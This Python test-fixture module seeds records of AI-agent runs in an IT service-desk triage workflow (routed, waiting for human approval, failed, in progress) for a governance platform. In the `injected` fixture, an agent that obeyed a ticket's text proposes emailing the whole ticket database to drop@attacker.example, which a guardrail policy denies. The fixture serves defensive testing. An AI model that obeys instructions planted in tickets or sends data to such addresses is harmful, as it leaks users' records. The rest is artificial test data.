"""A small service desk in rows: runs that ended, wait, fail and are at work, as pages show them."""

from __future__ import annotations

from dataclasses import dataclass, replace

from interlock.domain.agent import AgentSpec
from interlock.domain.approval import Approval, ApprovalState
from interlock.domain.canonical import Json, JsonObject, digest
from interlock.domain.decision import Decision, Facts, Outcome, PolicyRequest, Reason
from interlock.domain.effect import Effect, EffectState, Evidence
from interlock.domain.ids import (
    AgentName,
    ApprovalId,
    DecisionId,
    ExecutorId,
    RunId,
    StepName,
    ToolName,
    WorkflowName,
    effect_id_of,
    idempotency_key_of,
)
from interlock.domain.label import Labels
from interlock.domain.principal import DEFAULT_TENANT, Seat
from interlock.domain.release import Release
from interlock.domain.run import JournalEntry, Run, RunState, StartRequest, TriggerRef
from interlock.domain.tool import (
    Compensation,
    ConnectorKind,
    EffectClass,
    EffectSpec,
    EnvironmentBinding,
    Group,
    HttpRequest,
    Server,
    System,
    ToolVersion,
)
from interlock.domain.trace import ModelUse, Span, SpanStatus
from interlock.domain.workflow import (
    SeatSpec,
    Step,
    Success,
    Trigger,
    WorkflowSpec,
    begin_name,
)
from interlock.observe import bodies, emit, semconv
from interlock.store import (
    approvals,
    blackboard,
    decisions,
    effects,
    gates,
    journal,
    registry,
    runs,
    spans,
    triggers,
)
from interlock.store.engine import Database
from interlock.store.tx import Tx
from interlock.testing.clock import ManualClock

FLOW = WorkflowName("service-desk-triage")
CLASSIFIER, RESOLVER = AgentName("classifier"), AgentName("resolver")
SEARCH = ToolName("tracker.ticket.search")
UPDATE = ToolName("tracker.ticket.update")
CREATE = ToolName("tracker.ticket.create")
GRANT = ToolName("directory.share.grant")
MAIL = ToolName("mail.message.send")
WORKER = ExecutorId("worker-1")
POLICY = "world:5f0d2c7e19ab"
CLOSED: JsonObject = {"type": "object", "additionalProperties": True}


def _tool(name: ToolName, title: str, **changes: object) -> ToolVersion:
    system = name.partition(".")[0]
    plain = ToolVersion(
        name=name,
        version=3,
        owner="desk-team",
        title=title,
        description=title,
        system=system,
        connector=ConnectorKind.HTTP,
        request=HttpRequest(method="POST", path=f"/{system}"),
        input_schema=CLOSED,
        output_schema=CLOSED,
        environments={"dev": EnvironmentBinding(server=f"{system}-dev")},
    )
    return replace(plain, **changes)  # type: ignore[arg-type]  # changes are fields


TOOLS = (
    _tool(
        SEARCH, "Search tickets", group=Group.READ, effect=EffectSpec(effect_class=EffectClass.READ)
    ),
    _tool(
        UPDATE, "Set priority and assignee", effect=EffectSpec(effect_class=EffectClass.CONDITIONAL)
    ),
    _tool(CREATE, "Open a child ticket", effect=EffectSpec(effect_class=EffectClass.CONDITIONAL)),
    _tool(
        GRANT,
        "Grant access to a file share",
        risk=3,
        effect=EffectSpec(effect_class=EffectClass.KEYED),
        compensation=Compensation(tool=ToolName("directory.share.revoke"), version=1, args={}),
    ),
    _tool(MAIL, "Send a message", risk=3, is_egress=True, is_irreversible=True),
)


def release() -> Release:
    """Return the project that the rows speak of."""
    names = tuple(tool.name for tool in TOOLS)
    flow = WorkflowSpec(
        name=FLOW,
        version=4,
        title="IT service desk triage and routing",
        owner="desk-leads",
        department="it",
        triggers=(Trigger(name="new-ticket", kind="webhook", source="tracker"),),
        input_schema=CLOSED,
        seats=(SeatSpec(agent=CLASSIFIER, tools=names), SeatSpec(agent=RESOLVER, tools=names)),
        steps=(
            Step(name="classify", agent=CLASSIFIER),
            Step(name="resolve", handoff=RESOLVER, handed_by=CLASSIFIER),
            Step(name="close", wait="ticket.closed"),
        ),
        failure_modes=(),
        success=Success(end_state="routed", end_states=("routed",), objective=0.95, within_s=600),
    )
    agents = {
        name: AgentSpec(
            name=name,
            version=2,
            title=name,
            owner="desk-leads",
            sponsor="grace",
            instructions="Help.",
        )
        for name in (CLASSIFIER, RESOLVER)
    }
    systems = {tool.system: tool.system for tool in TOOLS}
    return Release(
        systems={n: System(name=n, title=n.title(), owner="desk-leads") for n in systems},
        servers={
            f"{n}-dev": Server(name=f"{n}-dev", system=n, environment="dev", kind="http")
            for n in systems
        },
        tools={tool.name: tool for tool in TOOLS},
        agents=agents,
        workflows={FLOW: flow},
        teams=("desk-leads",),
    )


@dataclass(kw_only=True)
class Story:
    """Writes one run as its worker would, moving the clock as it goes."""

    db: Database
    clock: ManualClock
    run: Run

    @classmethod
    def begin(
        cls,
        db: Database,
        clock: ManualClock,
        key: str,
        *,
        parent: Run | None = None,
        agent: AgentName | None = None,
        user: str | None = None,
    ) -> Story:
        """Accept and claim a run."""
        request = StartRequest(
            workflow=FLOW,
            workflow_version=4,
            release=1,
            environment="dev",
            tenant=DEFAULT_TENANT,
            department="it",
            trigger=TriggerRef(
                kind="webhook" if parent is None else "parent",
                source="tracker" if parent is None else "handoff",
                key=key,
            ),
            input={"ticket": key},
            agent=agent,
            user=user,
            parent_id=None if parent is None else parent.run_id,
            root_id=None if parent is None else parent.request.root_id,
            depth=0 if parent is None else 1,
        )

        def start(tx: Tx) -> Run:
            run_id, _ = triggers.accept(tx, request, body_digest="sha256:1")
            run = runs.claim(tx, run_id, segment=0, executor_id=WORKER)
            assert run is not None
            spans.put(tx, emit.workflow_span(run, autonomy_level=2))
            return run

        return cls(db=db, clock=clock, run=db.run("test.start", start))

    @property
    def run_id(self) -> RunId:
        """Return the run's id."""
        return self.run.run_id

    def put(self, span: Span) -> None:
        """Write a span."""
        self.db.run("test.span", lambda tx: spans.put(tx, span))

    def agent(self, step: str, agent: AgentName) -> None:
        """Begin the step of an agent."""
        seat = Seat(workflow=FLOW, agent=agent)
        self.put(
            emit.agent_span(
                self.run_id, step, seat=seat, start_us=self.clock.now_us(), agent_version=2
            )
        )
        self.note(begin_name(step), {"is_skipped": False})

    def hand_off(self, step: str, agent: AgentName, child: Run | None = None) -> None:
        """Begin a hand-off, or link it to its child run."""
        span = emit.handoff_span(self.run_id, step, agent=agent, start_us=self.clock.now_us())
        if child is None:
            self.put(span)
            self.note(begin_name(step), {"is_skipped": False})
        else:
            link: JsonObject = {semconv.CHILD_RUN: child.run_id}
            self.put(replace(span, attributes=span.attributes | link))

    def note(self, name: str, value: Json) -> None:
        """Record a result in the run's journal."""
        entry = JournalEntry(
            name=StepName(name),
            kind="step",
            value=value,
            error=None,
            input_digest=None,
            epoch=1,
            at_us=self.clock.now_us(),
        )
        self.db.run("test.note", lambda tx: journal.put(tx, self.run_id, entry))

    def done(self, step: str, value: Json = None) -> None:
        """End a step."""
        self.close(step)
        self.note(step, value)

    def close(self, key: str, status: SpanStatus = SpanStatus.OK, **more: str | None) -> None:
        """Close a span now."""
        self.db.run(
            "test.close",
            lambda tx: spans.close(
                tx, self.run_id, key, end_us=tx.now_us, status=status, error_code=more.get("code")
            ),
        )

    def think(self, step: str, turn: int, seconds: float) -> None:
        """Ask a model."""
        key = StepName(f"{step}/{turn}/model")
        self.put(
            emit.model_span(
                self.run_id,
                key,
                parent_key=step,
                provider="openai",
                model="gpt-5-mini",
                start_us=self.clock.now_us(),
            )
        )
        self.clock.advance(seconds)
        use = ModelUse(
            run_id=self.run_id,
            span_key=key,
            provider="openai",
            model="gpt-5-mini",
            input_tokens=1840 + 60 * turn,
            output_tokens=112,
            cost_micro_usd=684 + 15 * turn,
            price_version="2026-11",
            is_estimated=False,
            at_us=self.clock.now_us(),
        )

        def write(tx: Tx) -> None:
            spans.put_model_use(tx, use)
            spans.close(
                tx,
                self.run_id,
                key,
                end_us=tx.now_us,
                status=SpanStatus.OK,
                cost_micro_usd=use.cost_micro_usd,
                attributes=emit.model_outcome(use),
            )

        self.db.run("test.model", write)

    def propose(
        self, name: str, tool: ToolName, arguments: JsonObject, *, seat: AgentName = RESOLVER
    ) -> Effect:
        """Propose a call; `name` is its step name."""
        version = next(each for each in TOOLS if each.name == tool)
        step_name = StepName(name)
        effect_id = effect_id_of(self.run_id, step_name)
        effect = Effect(
            effect_id=effect_id,
            run_id=self.run_id,
            step_name=step_name,
            tenant=DEFAULT_TENANT,
            environment="dev",
            workflow=FLOW,
            seats=(
                Seat(workflow=FLOW, agent=CLASSIFIER),
                *((Seat(workflow=FLOW, agent=seat),) if seat != CLASSIFIER else ()),
            ),
            tool=tool,
            tool_version=version.version,
            pin="sha256:pin",
            effect_class=version.effect.effect_class,
            is_write=version.is_write,
            arguments=arguments,
            args_digest=digest(arguments),
            state=EffectState.PROPOSED,
            epoch=1,
            attempt=0,
            created_us=self.clock.now_us(),
            idem_key=idempotency_key_of(effect_id),
            call_digest=digest([tool, arguments]),
        )

        def write(tx: Tx) -> None:
            effects.insert(tx, effect)
            spans.put(tx, emit.tool_span(effect, parent_key=name.partition("/")[0]))
            bodies.write_arguments(tx, effect, version)

        self.db.run("test.propose", write)
        return effect

    def decide(self, effect: Effect, outcome: Outcome, policy: str, why: str, *groups: str) -> str:
        """Record a decision about a call."""
        decision = Decision(
            outcome=outcome,
            reasons=(Reason(code=f"policy.{outcome}", message=why, policy_id=policy),),
            groups=groups,
            policy_version=POLICY,
        )
        start_us = self.clock.now_us()
        self.clock.advance(0.004)

        def write(tx: Tx) -> str:
            decision_id = DecisionId(tx.new_id())
            decisions.put(
                tx,
                decision_id=decision_id,
                run_id=self.run_id,
                effect_id=effect.effect_id,
                decision=decision,
                request=PolicyRequest(
                    seats=effect.seats,
                    environment="dev",
                    tool=effect.tool,
                    arguments=effect.arguments,
                    facts=Facts(),
                ),
                tool=effect.tool,
                tool_version=effect.tool_version,
            )
            n = len(decisions.list_for_effect(tx, effect.effect_id))
            spans.put(
                tx,
                emit.decide_span(
                    effect,
                    decision,
                    n=n,
                    decision_id=decision_id,
                    start_us=start_us,
                    end_us=tx.now_us,
                ),
            )
            return decision_id

        return self.db.run("test.decide", write)

    def ask(self, effect: Effect, group: str, decision_id: str, *, ttl_s: int = 86_400) -> Approval:
        """Ask a group for an approval."""

        def write(tx: Tx) -> Approval:
            approval = Approval(
                approval_id=ApprovalId(tx.new_id()),
                run_id=self.run_id,
                effect_id=effect.effect_id,
                decision_id=DecisionId(decision_id),
                digest=effect.call_digest or "",
                group=group,
                state=ApprovalState.PENDING,
                asked_us=tx.now_us,
                expires_us=tx.now_us + ttl_s * 1_000_000,
                requester=self.run.request.user,
                sponsors=("grace",),
            )
            approvals.put(tx, approval, tenant=DEFAULT_TENANT)
            spans.put(tx, emit.approval_span(approval, call_key=effect.step_name))
            return approval

        return self.db.run("test.ask", write)

    def answer(self, approval: Approval, effect: Effect, state: ApprovalState, reason: str) -> None:
        """Answer an approval."""

        def write(tx: Tx) -> None:
            answered = approvals.answer(
                tx, approval.approval_id, state=state, by="ada", reason=reason or None
            )
            spans.put(tx, emit.approval_span(answered, call_key=effect.step_name))

        self.db.run("test.answer", write)

    def send(
        self,
        effect: Effect,
        seconds: float,
        *,
        state: EffectState = EffectState.SUCCEEDED,
        result: Json = None,
        external_id: str | None = None,
        error: tuple[str, str] | None = None,
    ) -> Effect:
        """Send a call and record its outcome."""
        start_us = self.clock.now_us()
        self.clock.advance(seconds)
        code, message = error or (None, None)
        after = replace(
            effect,
            state=state,
            attempt=1,
            result=result,
            external_id=external_id,
            error_code=code,
            error_message=message,
            outcome_us=self.clock.now_us(),
        )
        version = next(each for each in TOOLS if each.name == effect.tool)
        system = version.system

        def write(tx: Tx) -> None:
            effects.move(tx, effect, after)
            bound = registry.get_release(tx, 1).bind(version, "dev")
            assert bound is not None, system
            sent = emit.send_span(after, bound, start_us=start_us)
            spans.put(tx, replace(sent, end_us=tx.now_us))
            spans.put(
                tx,
                emit.tool_span(
                    after, parent_key=effect.step_name.partition("/")[0], end_us=tx.now_us
                ),
            )
            bodies.write_result(tx, after, version)
            effects.add_evidence(
                tx,
                Evidence(
                    effect_id=effect.effect_id,
                    attempt=1,
                    epoch=1,
                    kind=f"reply.{state}",
                    at_us=tx.now_us,
                ),
            )

        self.db.run("test.send", write)
        return after

    def refuse(self, effect: Effect, code: str, message: str) -> None:
        """End a call that policy or people refuse."""
        after = replace(
            effect,
            state=EffectState.DENIED,
            error_code=code,
            error_message=message,
            outcome_us=self.clock.now_us(),
        )

        def write(tx: Tx) -> None:
            effects.move(tx, effect, after)
            parent = effect.step_name.partition("/")[0]
            spans.put(tx, emit.tool_span(after, parent_key=parent, end_us=tx.now_us))

        self.db.run("test.refuse", write)

    def park(self, reason: str) -> None:
        """Let the run wait."""
        self.db.run("test.park", lambda tx: runs.park(tx, self.run_id, epoch=1, reason=reason))

    def end(
        self, state: RunState = RunState.SUCCEEDED, *, end_state: str | None = None, **error: str
    ) -> None:
        """End the run."""

        def write(tx: Tx) -> None:
            run = runs.finish(
                tx,
                self.run_id,
                epoch=1,
                state=state,
                end_state=end_state,
                error_code=error.get("code"),
                error_message=error.get("message"),
            )
            spans.put(tx, emit.workflow_span(run))

        self.db.run("test.end", write)

    def read_tickets(self, step: str, turn: int, *, seat: AgentName = RESOLVER) -> None:
        """Make a read that a grant allows."""
        effect = self.propose(
            f"{step}/{turn}/0/{SEARCH}", SEARCH, {"query": "vpn token", "limit": 5}, seat=seat
        )
        self.decide(effect, Outcome.ALLOW, "grants/read", "reads are free")
        self.send(effect, 0.08, result={"tickets": [{"id": "311", "title": "VPN token expired"}]})

    def share(self, key: str, value: Json) -> None:
        """Write the run tree's shared state."""
        self.db.run(
            "test.share",
            lambda tx: blackboard.write(
                tx,
                self.run.request.root_id or self.run_id,
                key,
                value,
                expected_version=0,
                labels=Labels(),
                writer="service-desk-triage/classifier",
                run_id=self.run_id,
            ),
        )


def apply(db: Database) -> None:
    """Apply the project."""
    db.run("test.apply", lambda tx: registry.put_release(tx, release(), by="grace"))


def lock(db: Database, run_id: RunId, key: str) -> None:
    """Let a run take a key, or wait for it if another one has it."""
    wanted = gates.Ask(
        run_id=run_id, name=StepName("#gate"), keys={key: 1}, priority=4, tenant=DEFAULT_TENANT
    )
    db.run("seed", lambda tx: gates.ask(tx, wanted))


def routed(db: Database, clock: ManualClock, key: str) -> Story:
    """Write a run that ended well: a hand-off, reads, two writes, one of them approved."""
    story = Story.begin(db, clock, key)
    clock.advance(0.05)
    story.agent("classify", CLASSIFIER)
    story.think("classify", 1, 0.9)
    story.read_tickets("classify", 1, seat=CLASSIFIER)
    story.think("classify", 2, 0.7)
    story.share("classification", {"category": "access", "urgency": "high"})
    story.done("classify", {"category": "access"})
    story.hand_off("resolve", RESOLVER)
    child = Story.begin(db, clock, f"{key}/resolve", parent=story.run, agent=RESOLVER)
    story.hand_off("resolve", RESOLVER, child.run)
    child.agent("resolver", RESOLVER)
    child.think("resolver", 1, 1.1)
    write = child.propose(f"resolver/1/0/{UPDATE}", UPDATE, {"ticket": "311", "priority": "urgent"})
    child.decide(write, Outcome.ALLOW, "grants/low-risk", "low-risk writes of this workflow")
    child.send(write, 0.12, external_id="311", result={"id": "311", "etag": "a7"})
    grant = child.propose(
        f"resolver/1/1/{GRANT}", GRANT, {"share": "finance-q3", "user": "m.okafor", "days": 30}
    )
    asked = child.decide(
        grant,
        Outcome.NEEDS_APPROVAL,
        "approvals/shares",
        "access to finance shares is granted by people",
        "desk-leads",
    )
    approval = child.ask(grant, "desk-leads", asked)
    clock.advance(754)
    child.answer(approval, grant, ApprovalState.APPROVED, "")
    child.decide(grant, Outcome.ALLOW, "approvals/shares", "approved for exactly this call")
    child.send(grant, 0.31, external_id="grant-9081", result={"grant": "grant-9081"})
    child.think("resolver", 2, 0.6)
    child.done("resolver")
    child.end(end_state="resolved")
    story.done("resolve")
    story.end(end_state="routed")
    return story


def waiting(
    db: Database, clock: ManualClock, key: str, arguments: JsonObject
) -> tuple[Story, Approval]:
    """Write a run that waits for the group `desk-leads`."""
    story = Story.begin(db, clock, key, user="mallory")
    story.agent("classify", CLASSIFIER)
    story.think("classify", 1, 0.8)
    grant = story.propose(f"classify/1/0/{GRANT}", GRANT, arguments)
    asked = story.decide(
        grant,
        Outcome.NEEDS_APPROVAL,
        "approvals/shares",
        "access to finance shares is granted by people",
        "desk-leads",
    )
    approval = story.ask(grant, "desk-leads", asked)
    story.park("waits for desk-leads")
    return story, approval


def injected(db: Database, clock: ManualClock, key: str) -> Story:
    """Write a run whose agent obeyed a ticket's text and was refused."""
    story = Story.begin(db, clock, key)
    story.agent("classify", CLASSIFIER)
    story.think("classify", 1, 0.8)
    mail = story.propose(
        f"classify/1/0/{MAIL}",
        MAIL,
        {"to": "drop@attacker.example", "body": "the whole ticket database"},
        seat=CLASSIFIER,
    )
    story.decide(
        mail,
        Outcome.DENY,
        "guardrails/no-untrusted-egress",
        "nothing leaves the boundary after untrusted text was read",
    )
    story.refuse(mail, "policy.denied", "nothing leaves the boundary after untrusted text was read")
    story.db.run(
        "test.labels",
        lambda tx: runs.raise_labels(
            tx, story.run_id, Labels(names=frozenset({"pii"}), is_untrusted=True)
        ),
    )
    story.think("classify", 2, 0.6)
    story.done("classify")
    story.end(end_state="escalated")
    return story


def failed(db: Database, clock: ManualClock, key: str) -> Story:
    """Write a run that failed on a tracker that is down."""
    story = Story.begin(db, clock, key)
    story.agent("classify", CLASSIFIER)
    story.think("classify", 1, 0.8)
    create = story.propose(
        f"classify/1/0/{CREATE}", CREATE, {"title": "VPN down in Lagos"}, seat=CLASSIFIER
    )
    story.decide(create, Outcome.ALLOW, "grants/low-risk", "low-risk writes of this workflow")
    error = ("tool.unavailable", "the server `tracker-dev` refused the connection")
    story.send(create, 4.2, state=EffectState.FAILED_DEFINITE, error=error)
    story.close("classify", SpanStatus.ERROR, code="tool.unavailable")
    story.end(RunState.FAILED, code=error[0], message=error[1])
    return story


def working(db: Database, clock: ManualClock, key: str) -> Story:
    """Write a run that is at work: its agent and a model request are open."""
    story = Story.begin(db, clock, key)
    story.agent("classify", CLASSIFIER)
    story.think("classify", 1, 0.7)
    story.read_tickets("classify", 1, seat=CLASSIFIER)
    story.put(
        emit.model_span(
            story.run_id,
            StepName("classify/2/model"),
            parent_key="classify",
            provider="openai",
            model="gpt-5-mini",
            start_us=clock.now_us(),
        )
    )
    return story


def open_step(story: Story, step: str) -> Span:
    """Return the span of a step that begins now."""
    return emit.step_span(story.run_id, step, start_us=story.clock.now_us())
